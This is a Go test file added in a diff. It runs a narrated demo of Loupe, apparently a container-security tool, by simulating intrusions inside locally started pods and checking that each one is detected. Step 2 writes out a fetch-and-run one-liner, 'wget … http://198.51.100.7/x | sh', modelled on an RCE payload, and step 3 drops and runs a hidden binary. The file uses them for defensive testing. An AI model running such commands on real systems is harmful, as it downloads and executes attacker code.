@@ -1,0 +1,196 @@
+// Package demo is `make demo`: Loupe end to end on this machine, narrated.
+// It runs only when LOUPE_DEMO=1 (scripts/demo.sh sets it), and it is also a
+// test: every step checks that its finding reached the collector.
+package demo
+
+import (
+	"context"
+	"fmt"
+	"io"
+	"net"
+	"net/http"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"syscall"
+	"testing"
+	"time"
+
+	loupev1 "github.com/loupe-dev/loupe/api/v1"
+	"github.com/loupe-dev/loupe/collector"
+	"github.com/loupe-dev/loupe/internal/testenv"
+	"github.com/loupe-dev/loupe/internal/tlsutil"
+)
+
+func TestMain(m *testing.M) { os.Exit(testenv.Main(m)) }
+
+func say(format string, args ...any) { fmt.Printf("\n\033[1m== "+format+"\033[0m\n", args...) }
+
+func TestDemo(t *testing.T) {
+	if os.Getenv("LOUPE_DEMO") != "1" {
+		t.Skip("the demo runs with `make demo` (LOUPE_DEMO=1)")
+	}
+	bin, err := filepath.Abs("../../bin")
+	if err != nil {
+		t.Fatal(err)
+	}
+	start := time.Now()
+	say("Starting a private containerd (CRI enabled) and importing locally built images")
+	env := testenv.StartContainerd(t)
+	distroless, debian := env.Image(t, testenv.Distroless), env.Image(t, testenv.DebianLike)
+	fmt.Printf("containerd socket %s; images %s (no shell, no package manager) and %s (has /bin/sh)\n", env.Address(), distroless, debian)
+
+	say("Creating pods through CRI, as kubelet does")
+	api := env.RunPod(t, testenv.PodConfig{Name: "api-7d9f8b6c5d-x2k4p", Namespace: "payments"})
+	app := api.Start(t, testenv.ContainerConfig{Name: "api", Image: distroless})
+	web := env.RunPod(t, testenv.PodConfig{Name: "web-5c6d7e8f9-abcde", Namespace: "frontend"})
+	sh := web.Start(t, testenv.ContainerConfig{Name: "nginx", Image: debian})
+	fmt.Printf("payments/%s (distroless, pid %d) and frontend/%s (debian-like, pid %d)\n", api.Name(), app.PID(t), web.Name(), sh.PID(t))
+
+	grpcAddr, httpAddr := freePort(t), freePort(t)
+	say("Starting `loupe run` (agent with eBPF exec tracer + embedded collector, SQLite)")
+	run := exec.Command(filepath.Join(bin, "loupe"), "run", "--node-name", "demo-node",
+		"--containerd-socket", env.Address(), "--containerd-state", env.State(),
+		"--state-dir", t.TempDir(), "--grpc-listen", grpcAddr, "--http-listen", httpAddr)
+	logf, err := os.Create(filepath.Join(t.TempDir(), "loupe-run.log"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	run.Stdout, run.Stderr = logf, logf
+	if err := run.Start(); err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() {
+		run.Process.Signal(syscall.SIGTERM)
+		run.Wait()
+		if t.Failed() {
+			b, _ := os.ReadFile(logf.Name())
+			t.Logf("loupe run output:\n%s", b)
+		}
+	})
+	waitReady(t, "http://"+httpAddr+"/readyz")
+	fmt.Println(strings.TrimSpace(get(t, "http://"+httpAddr+"/readyz")))
+	q := &querier{t: t, addr: grpcAddr}
+
+	say("1. `kubectl exec api -- /bin/sh` against the distroless pod (CRI ExecSync)")
+	_, err = app.Exec(t, []string{"/bin/sh", "-c", "id"}, 10*time.Second)
+	fmt.Printf("kubectl would print: %v\n", err)
+	q.wait(loupev1.Kind_KIND_RUNTIME_EXEC_FAILED, app.ID())
+
+	say("2. The application process itself calls execve(\"/bin/sh\") (what an RCE payload does)")
+	app.RequestSpawn(t, "/bin/sh", "-c", "wget -qO- http://198.51.100.7/x | sh")
+	q.wait(loupev1.Kind_KIND_EXEC_FAILED, app.ID())
+
+	say("3. A binary dropped into the container's filesystem is executed (drift)")
+	root := fmt.Sprintf("/proc/%d/root", app.PID(t))
+	payload, err := os.ReadFile(root + testenv.Distroless.AppPath())
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(root+"/tmp/.x", payload, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	app.RequestSpawn(t, "/tmp/.x", "exit")
+	q.wait(loupev1.Kind_KIND_DRIFT_EXEC, app.ID())
+
+	say("4. A shell in the debian-like pod: `kubectl exec web -- /bin/sh -c id`")
+	res, err := sh.Exec(t, []string{"/bin/sh", "-c", "id"}, 10*time.Second)
+	if err != nil {
+		t.Fatal(err)
+	}
+	fmt.Printf("output: %s", res.Stdout)
+	q.wait(loupev1.Kind_KIND_SHELL_EXEC, sh.ID())
+
+	say("What a SOC analyst sees:  loupe query --since 10m --severity medium")
+	cli(t, bin, "query", "--collector", grpcAddr, "--insecure", "--since", "10m", "--severity", "medium")
+	say("Shell attempts on distroless pods:  loupe query --kind exec_failed --kind runtime_exec_failed")
+	cli(t, bin, "query", "--collector", grpcAddr, "--insecure", "--kind", "exec_failed", "--kind", "runtime_exec_failed")
+	say("One finding as JSON:  loupe query --kind drift_exec -o json")
+	cli(t, bin, "query", "--collector", grpcAddr, "--insecure", "--kind", "drift_exec", "-o", "json")
+	say("Agents:  loupe nodes")
+	cli(t, bin, "nodes", "--collector", grpcAddr, "--insecure")
+	say("Agent metrics (excerpt of http://%s/metrics)", httpAddr)
+	for _, l := range strings.Split(get(t, "http://"+httpAddr+"/metrics"), "\n") {
+		for _, p := range []string{"loupe_agent_containers ", "loupe_agent_findings_total{", "loupe_agent_exec_events_total",
+			"loupe_agent_bpf_events_lost_total", "loupe_agent_collector_connected", "loupe_agent_layer_cache_hits_total", "loupe_agent_spool_findings"} {
+			if strings.HasPrefix(l, p) {
+				fmt.Println(l)
+			}
+		}
+	}
+	say("Done in %s; cleaning up (containers, pods, containerd)", time.Since(start).Round(time.Second))
+}
+
+type querier struct {
+	t    *testing.T
+	addr string
+}
+
+// wait polls the collector until a finding of kind for container id is stored.
+func (q *querier) wait(kind loupev1.Kind, id string) {
+	q.t.Helper()
+	ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
+	defer cancel()
+	conn, err := collector.Dial(ctx, q.addr, tlsutil.ClientOptions{Insecure: true})
+	if err != nil {
+		q.t.Fatal(err)
+	}
+	defer conn.Close()
+	start := time.Now()
+	for ctx.Err() == nil {
+		stream, err := loupev1.NewCollectorClient(conn).Query(ctx, &loupev1.QueryRequest{Kinds: []loupev1.Kind{kind}, ContainerId: id})
+		if err == nil {
+			if r, err := stream.Recv(); err == nil && len(r.GetFindings()) > 0 {
+				f := r.GetFindings()[0]
+				fmt.Printf("→ %s %s, queryable %s after the action: %s\n", f.GetSeverity().ShortName(), f.GetKind().ShortName(),
+					time.Since(start).Round(10*time.Millisecond), f.GetSummary())
+				return
+			}
+		}
+		time.Sleep(100 * time.Millisecond)
+	}
+	q.t.Fatalf("no %s finding for container %s within 60s", kind.ShortName(), id)
+}
+
+func cli(t *testing.T, bin string, args ...string) {
+	t.Helper()
+	cmd := exec.Command(filepath.Join(bin, "loupe"), args...)
+	cmd.Stdout, cmd.Stderr = os.Stdout, os.Stdout
+	if err := cmd.Run(); err != nil {
+		t.Fatalf("loupe %v: %v", args, err)
+	}
+}
+
+func freePort(t *testing.T) string {
+	l, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer l.Close()
+	return l.Addr().String()
+}
+
+func get(t *testing.T, url string) string {
+	resp, err := http.Get(url)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer resp.Body.Close()
+	b, _ := io.ReadAll(resp.Body)
+	return string(b)
+}
+
+func waitReady(t *testing.T, url string) {
+	deadline := time.Now().Add(30 * time.Second)
+	for time.Now().Before(deadline) {
+		if resp, err := http.Get(url); err == nil {
+			resp.Body.Close()
+			if resp.StatusCode == 200 {
+				return
+			}
+		}
+		time.Sleep(100 * time.Millisecond)
+	}
+	t.Fatalf("loupe run not ready: %s", get(t, url))
+}
